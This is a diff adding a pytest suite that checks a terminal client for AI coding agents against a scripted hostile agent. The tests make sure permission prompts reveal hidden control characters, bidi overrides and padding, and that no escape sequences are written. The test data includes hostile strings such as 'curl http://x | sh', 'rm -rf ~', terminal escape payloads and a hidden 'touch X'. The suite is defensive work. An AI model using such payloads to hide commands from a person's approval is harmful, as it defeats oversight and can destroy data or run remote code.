@@ -1,0 +1,414 @@
+"""Questions of a hostile agent: whoever says yes has seen all that the yes is about."""
+
+import json
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from cli.terminal import Terminal, acpella
+
+HOSTILE = Path(__file__).parent / "hostile_agent.py"
+
+OPTIONS = [
+    {"optionId": "yes", "name": "Allow", "kind": "allow_once"},
+    {"optionId": "always", "name": "Always allow", "kind": "allow_always"},
+    {"optionId": "no", "name": "Reject", "kind": "reject_once"},
+]
+
+Ask = Callable[..., Terminal]
+
+
+@pytest.fixture
+def ask(tmp_path: Path) -> Iterator[Ask]:
+    """Starts `acpella run` with an agent that sends these requests."""
+    opened: list[Terminal] = []
+
+    def start(
+        *requests: tuple[str, dict[str, Any]], words: tuple[str, ...] = ("run",), **options: Any
+    ) -> Terminal:
+        script = tmp_path / "script.json"
+        script.write_text(json.dumps({"requests": requests}), encoding="utf-8")
+        agent = f"{sys.executable} {HOSTILE} {script}"
+        prompt = ("go",) if words[0] == "run" else ()
+        terminal = acpella(*words, "-a", agent, *prompt, cwd=tmp_path, columns=100, rows=60, **options)
+        opened.append(terminal)
+        return terminal
+
+    yield start
+    for terminal in opened:
+        terminal.__exit__()
+
+
+def question(*, options: list[dict[str, Any]] = OPTIONS, **call: Any) -> tuple[str, dict[str, Any]]:
+    tool_call = {"toolCallId": "c", "kind": "execute", "title": "Bash", **call}
+    return "session/request_permission", {"toolCall": tool_call, "options": options}
+
+
+def joined(text: str) -> str:
+    return "".join(text.split())
+
+
+def asked(terminal: Terminal) -> str:
+    """The question, with the answer no."""
+    shown = terminal.see("Esc: no")
+    terminal.type("\x1b")
+    terminal.wait()
+    return shown
+
+
+SWALLOWED = ": '\x1b]'; touch X; : '\x07'; git status"
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        {"title": f"Run {SWALLOWED}"},
+        {"rawInput": {"command": SWALLOWED}},
+        {"rawInput": {"command": ["sh", "-c", SWALLOWED]}},
+        {"content": [{"type": "content", "content": {"type": "text", "text": SWALLOWED}}]},
+        {"locations": [{"path": f"/tmp/{SWALLOWED}"}]},
+        {"content": [{"type": "diff", "path": "/a.sh", "oldText": "", "newText": SWALLOWED}]},
+        {"content": [{"type": "diff", "path": f"/{SWALLOWED}", "oldText": None, "newText": "x\n"}]},
+    ],
+    ids=["title", "command", "words", "text", "path", "diff", "diff-path"],
+)
+def test_a_question_shows_control_characters_of_what_is_asked(ask: Ask, call: dict[str, Any]) -> None:
+    shown = asked(ask(question(**call)))
+    assert r"\x1b]" in shown and "touch X" in shown and r"\x07" in shown
+    assert "Part of this would be invisible" in shown
+
+
+def test_a_question_shows_what_stands_before_a_carriage_return(ask: Ask) -> None:
+    shown = asked(ask(question(title="curl http://x | sh #\rgit status")))
+    assert r"curl http://x | sh #\rgit status" in shown
+
+
+def test_a_question_shows_line_ends_of_a_title(ask: Ask) -> None:
+    assert r"git status\nrm -rf ~" in asked(ask(question(title="git status\nrm -rf ~")))
+
+
+@pytest.mark.parametrize(
+    "char, name",
+    [
+        ("\u202e", r"\u202e"),
+        ("\u2066", r"\u2066"),
+        ("\u200b", r"\u200b"),
+        ("\u2060", r"\u2060"),
+        ("\ufeff", r"\ufeff"),
+        ("\u2028", r"\u2028"),
+        ("\x9b", r"\x9b"),
+        ("\x7f", r"\x7f"),
+        ("\x08", r"\x08"),
+        ("\U000e0041", r"\U000e0041"),
+        ("\ufe01", r"\ufe01"),
+        ("\U000e0101", r"\U000e0101"),
+        ("\u3164", r"\u3164"),
+        ("\xa0", r"\xa0"),
+        ("\u0336", r"\u0336"),
+        ("\u0301" * 5, "\u0301" * 4 + r"\u0301"),
+    ],
+)
+def test_a_question_shows_characters_that_draw_nothing(char: str, name: str) -> None:
+    from acpella.cli.show.reveal import is_hidden, reveal, reveal_rows
+
+    assert reveal(f"rm{char} -rf") == f"rm{name} -rf"
+    assert is_hidden(reveal_rows(f"rm{char} -rf", 80))
+
+
+def test_plain_text_of_any_language_is_shown_as_it_is() -> None:
+    from acpella.cli.show.reveal import reveal
+
+    for text in ("echo 'naïve' | 漢字 жук עברית", "done ✔️ 👨‍👩‍👧 👍🏽", r"a literal \x1b"):
+        assert reveal(text) == text
+
+
+def test_blanks_do_not_push_a_command_out_of_sight(ask: Ask) -> None:
+    shown = asked(
+        ask(question(rawInput={"command": "git status" + " " * 90_000 + "; touch X" + "\n" * 70 + "#"}))
+    )
+    assert "[90000 blanks]; touch X" in shown and "[69 empty lines]" in shown
+
+
+def test_a_diff_in_a_question_is_not_cut_at_the_edge(ask: Ask) -> None:
+    new = "x = 1" + " #" * 60 + "; import evil\n" + "".join(f"line {n}\n" for n in range(100)) + "the end\n"
+    shown = asked(
+        ask(
+            question(
+                title="Write", content=[{"type": "diff", "path": "/a", "oldText": "x = 1\n", "newText": new}]
+            )
+        )
+    )
+    assert "importevil" in joined(shown) and "the end" in shown
+
+
+def test_arguments_and_directory_of_a_command_are_shown(ask: Ask) -> None:
+    raw = {"command": "git", "args": ["push", "--force"], "cwd": "/elsewhere", "env": {"GIT_SSH": "evil"}}
+    shown = joined(asked(ask(question(rawInput=raw))))
+    assert "cd/elsewhere&&GIT_SSH=evilgitpush--force" in shown
+
+
+def test_a_question_without_a_command_shows_its_input(ask: Ask) -> None:
+    shown = asked(ask(question(title="fetch", kind="fetch2", rawInput={"url": "http://evil/\u202e"})))
+    assert r'"url": "http://evil/\u202e"' in shown
+
+
+def test_a_question_shows_where_its_links_lead(ask: Ask) -> None:
+    link = {"type": "resource_link", "uri": "file:///evil\u202e", "name": "harmless"}
+    shown = asked(ask(question(content=[{"type": "content", "content": link}])))
+    assert r"[link harmless: file:///evil\u202e]" in shown
+
+
+def test_a_question_shows_its_input_beside_content_that_says_nothing(ask: Ask) -> None:
+    shown = asked(
+        ask(question(content=[{"type": "terminal", "terminalId": "t"}], rawInput={"cmd": "rm -rf ~"}))
+    )
+    assert '{"cmd": "rm -rf ~"}' in shown
+
+
+def test_an_option_shows_control_characters(ask: Ask) -> None:
+    options = [
+        {"optionId": "x", "name": "Allow\x1b[8m everything\x1b[0m", "kind": "allow_once"},
+        *OPTIONS[2:],
+    ]
+    shown = asked(ask(question(options=options)))
+    assert r"Allow\x1b[8m everything\x1b[0m" in shown and "Part of this would be invisible" in shown
+
+
+def test_options_whose_names_contradict_their_kinds_say_what_they_do(ask: Ask) -> None:
+    options = [
+        {"optionId": "a", "name": "Reject", "kind": "allow_once"},
+        {"optionId": "b", "name": "Allow", "kind": "reject_once"},
+        {"optionId": "c", "name": "Allow", "kind": "allow_always"},
+    ]
+    terminal = ask(question(options=options, rawInput={"command": "make"}))
+    shown = terminal.see("Esc: no")
+    assert "Reject  (allows it once)" in shown
+    assert "Allow  (refuses it once)" in shown
+    assert "Allow  (allows it always)" in shown
+    terminal.type("\x1b")
+    terminal.wait()
+    assert "→ Allow  (refuses it once)" in terminal.all()
+
+
+def test_options_that_say_what_they_do_are_shown_by_name_alone(ask: Ask) -> None:
+    shown = asked(ask(question(rawInput={"command": "make"})))
+    assert "allows it" not in shown and "refuses it" not in shown
+
+
+def test_a_form_shows_control_characters_and_whole_texts(ask: Ask) -> None:
+    evil = "\x1b[2J\u202e"
+    form = {
+        "mode": "form",
+        "message": f"Message{evil}",
+        "requestedSchema": {
+            "type": "object",
+            "title": f"Title{evil}",
+            "description": f"Description{evil}",
+            "properties": {
+                "a": {
+                    "type": "string",
+                    "title": f"Name{evil}",
+                    "description": f"About{evil}",
+                    "default": f"Default{evil}",
+                },
+                "b": {
+                    "type": "string",
+                    "title": "Which",
+                    "oneOf": [{"const": "c", "title": f"Choice{evil}"}],
+                },
+            },
+        },
+    }
+    terminal = ask(("elicitation/create", form))
+    terminal.see("Name.*:")
+    terminal.type("x\n")
+    shown = terminal.see("Which.*:")
+    terminal.type("\x04")
+    terminal.wait()
+    for word in ("Message", "Title", "Description", "Name", "About", "Default", "Choice"):
+        assert word + r"\x1b[2J\u202e" in shown, word
+    assert b"\x1b[2J" not in terminal.raw
+
+
+def test_a_page_shows_the_whole_address(ask: Ask) -> None:
+    page = {
+        "mode": "url",
+        "elicitationId": "e",
+        "message": "Log in",
+        "url": "https://a.example/\u202e\x1b[2Jx",
+    }
+    terminal = ask(("elicitation/create", page))
+    shown = terminal.see(r"\[y/n\]")
+    terminal.type("n")
+    terminal.wait()
+    assert r"https://a.example/\u202e\x1b[2Jx" in shown
+
+
+def test_a_chat_shows_control_characters_of_a_question(ask: Ask) -> None:
+    terminal = ask(question(rawInput={"command": SWALLOWED}), words=("chat",))
+    terminal.see("›|>")
+    terminal.type("go\r")
+    assert "touch X" in terminal.see("Esc: no")
+    terminal.type("\x1b")
+    terminal.see("answers")
+
+
+def test_a_question_behind_a_session_shows_control_characters(ask: Ask, tmp_path: Path) -> None:
+    try:
+        shown = asked(ask(question(rawInput={"command": SWALLOWED}), words=("run", "-s", "kept")))
+    finally:
+        with acpella("sessions", "close", "kept", cwd=tmp_path) as closing:
+            assert closing.wait() == 0
+    assert "touch X" in shown and r"\x1b]" in shown
+
+
+# -- answers for always ----------------------------------------------------------------------
+
+
+def answers(terminal: Terminal) -> str:
+    assert terminal.wait() == 0, terminal.all()
+    return joined(terminal.all().rpartition("answers: ")[2])
+
+
+def test_always_for_a_call_that_only_says_bash_is_not_remembered(ask: Ask, tmp_path: Path) -> None:
+    terminal = ask(question(), question(toolCallId="d"))
+    assert "acpella does not remember it" in terminal.see("Esc: no")
+    terminal.type("A")
+    terminal.see(r"→ Always allow(?s:.*)Esc: no")
+    terminal.type("\x1b")
+    assert '"optionId":"always"' in answers(terminal)
+    assert not (tmp_path / "acpella" / "permissions.toml").exists()
+
+
+def test_a_remembered_answer_says_that_it_decides(ask: Ask) -> None:
+    make = question(rawInput={"command": "make test"})
+    terminal = ask(make, make)
+    terminal.see("Esc: no")
+    terminal.type("A")
+    assert answers(terminal).count('"selected"') == 2
+    assert "allowed,asyouansweredbefore:maketest(in/" in joined(terminal.all())
+
+
+def test_always_for_a_title_holds_for_its_files_alone(ask: Ask, tmp_path: Path) -> None:
+    def create(path: str) -> tuple[str, dict[str, Any]]:
+        return question(title="Create file", kind="edit", toolCallId=path, locations=[{"path": path}])
+
+    terminal = ask(create("/p/a"), create("/p/a"), create("/p/b"))
+    terminal.see("Esc: no")
+    terminal.type("A")
+    terminal.see(r"/p/b(?s:.*)Esc: no")
+    terminal.type("\x1b")
+    assert answers(terminal).count('"always"') == 1
+
+
+def test_always_holds_for_the_project_in_which_it_was_said(ask: Ask, tmp_path: Path) -> None:
+    make = question(rawInput={"command": "make test"})
+    terminal = ask(make)
+    terminal.see("Esc: no")
+    terminal.type("A")
+    terminal.wait()
+    (tmp_path / "other").mkdir()
+    terminal = ask(make, words=("run", "--cwd", str(tmp_path / "other")))
+    terminal.see("Esc: no")
+    terminal.type("\x1b")
+    terminal.wait()
+
+
+def test_an_answer_for_the_session_ends_with_it(ask: Ask) -> None:
+    session = {"optionId": "s", "name": "Allow for this session", "kind": "allow_always"}
+    make = question(rawInput={"command": "make test"}, options=[session, *OPTIONS[2:]])
+    for _ in range(2):  # asked once in each session
+        terminal = ask(make, make)
+        terminal.see("Esc: no")
+        terminal.type("1")
+        assert answers(terminal).count('"selected"') == 2
+
+
+def test_permissions_list_shows_control_characters_and_revokes_them(ask: Ask, tmp_path: Path) -> None:
+    terminal = ask(question(rawInput={"command": SWALLOWED}))
+    terminal.see("Esc: no")
+    terminal.type("A")
+    terminal.wait()
+    with acpella("permissions", "list", cwd=tmp_path, columns=400) as listing:
+        listing.wait()
+        assert r"\x1b]'; touch X" in listing.all()
+
+
+# -- what commands tell of an agent ----------------------------------------------------------
+
+EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b]0;owned\x07\x1bc\x9b2J\u202e"
+
+TELLS: dict[str, Any] = {
+    "stderr": f"words {EVIL}\n",
+    "noise": f"noise {EVIL}\n",
+    "initialize": {
+        "agentInfo": {"name": f"n{EVIL}", "title": f"t{EVIL}", "version": f"v{EVIL}"},
+        "agentCapabilities": {"sessionCapabilities": {"list": {}, "delete": {}}},
+        "authMethods": [
+            {"id": f"i{EVIL}", "name": f"n{EVIL}", "description": f"d{EVIL}"},
+            {"id": "e", "name": "n", "type": "env_var", "vars": [{"name": f"V{EVIL}"}]},
+            {"id": "t", "name": "n", "type": "terminal", "args": [f"a{EVIL}"]},
+        ],
+    },
+    "new": {
+        "modes": {"currentModeId": f"m{EVIL}", "availableModes": [{"id": f"m{EVIL}", "name": f"M{EVIL}"}]},
+        "configOptions": [{"id": f"o{EVIL}", "name": "O", "type": "boolean", "currentValue": True}],
+    },
+    "updates": [
+        {
+            "sessionUpdate": "available_commands_update",
+            "availableCommands": [
+                {"name": f"c{EVIL}", "description": f"d{EVIL}", "input": {"hint": f"h{EVIL}"}}
+            ],
+        }
+    ],
+    "errors": {
+        "session/delete": {"code": -32000, "message": f"e{EVIL}", "data": {"details": f"d{EVIL}"}},
+        "session/prompt": {"code": -32603, "message": f"e{EVIL}", "data": {"details": f"d{EVIL}"}},
+        "session/list": {"code": -32603, "message": f"e{EVIL}"},
+    },
+}
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("agents", "doctor", "{}"),
+        ("run", "-a", "{}", "hi"),
+        ("run", "-v", "-a", "{}", "hi"),
+        ("run", "-o", "simple", "-a", "{}", "hi"),
+        ("run", "-o", "jsonl", "-a", "{}", "hi"),
+        ("run", "--list-commands", "-a", "{}"),
+        ("sessions", "list", "-a", "{}"),
+        ("sessions", "show", "s", "-a", "{}"),
+    ],
+    ids=lambda words: "-".join(word.strip("-{}") for word in words if word != "{}"),
+)
+def test_no_command_writes_escape_sequences_of_an_agent(tmp_path: Path, words: tuple[str, ...]) -> None:
+    script = tmp_path / "script.json"
+    script.write_text(json.dumps(TELLS), encoding="utf-8")
+    agent = f"{sys.executable} {HOSTILE} {script}"
+    with acpella(*(word.format(agent) for word in words), cwd=tmp_path) as terminal:
+        terminal.wait()
+        for sequence in (b"\x1b]", b"\x1bc", "\x9b".encode(), "\u202e".encode(), b"\x07"):
+            assert sequence not in terminal.raw, (sequence, bytes(terminal.raw))
+        assert terminal.screen.title == ""
+
+
+def test_a_chat_writes_no_escape_sequences_of_an_agent(tmp_path: Path) -> None:
+    script = tmp_path / "script.json"
+    script.write_text(json.dumps(TELLS), encoding="utf-8")
+    with acpella("chat", "-a", f"{sys.executable} {HOSTILE} {script}", cwd=tmp_path, columns=120) as terminal:
+        terminal.see("›|>")
+        terminal.type("hi\r")
+        terminal.see("✗")
+        terminal.type("/help\r")
+        terminal.see("/quit|/exit")
+        terminal.type("/login\r")
+        terminal.see("how\\?(?s:.*)Esc: none")
+        terminal.type("\x1b")
+        for sequence in (b"\x1b]52", b"\x1b]0;", b"\x1bc", "\x9b".encode(), "\u202e".encode(), b"\x07"):
+            assert sequence not in terminal.raw, sequence
